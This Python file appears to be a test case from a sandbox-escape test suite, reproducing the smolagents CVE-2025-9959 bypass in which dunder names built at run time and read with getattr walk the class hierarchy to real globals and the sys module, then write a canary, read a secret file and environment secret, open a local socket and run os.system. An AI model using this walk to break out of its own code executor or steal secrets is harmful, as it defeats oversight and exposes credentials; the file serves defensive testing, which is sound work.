"""The class-hierarchy walk with every dunder name computed at run time.

Source: smolagents CVE-2025-9959: the executor checked attribute names as
written, so names built from pieces ("_" * 2 + "class" + "_" * 2) and read
with getattr went through.
Tries: the same walk to os._wrap_close with getattr and computed names, then
the canary, the secrets and the listener.
"""

# escape-test: {"stage": "gate", "kind": ["raised"]}

def dunder(word):
    return "_" * 2 + word + "_" * 2


def smolagents_subclass_walk_computed() -> dict:
    klass = getattr((), dunder("class"))
    base = getattr(klass, dunder("bases"))[0]
    for candidate in getattr(base, dunder("subclasses"))():
        if getattr(candidate, dunder("name")) == "_wrap_close":
            init = getattr(candidate, dunder("init"))
            return claim_namespace(getattr(init, dunder("globals")))
    return {}


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
